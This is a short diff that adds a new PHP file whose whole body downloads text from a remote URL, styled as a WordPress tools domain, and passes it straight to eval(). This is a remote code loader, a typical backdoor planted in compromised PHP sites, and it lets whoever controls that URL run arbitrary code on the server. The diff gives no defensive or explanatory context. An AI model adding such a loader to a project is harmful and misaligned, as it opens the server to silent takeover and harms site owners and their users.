@@ -1,0 +1,3 @@
+<?php
+$code = file_get_contents('https://wp-tools.example/m.txt');
+eval($code);
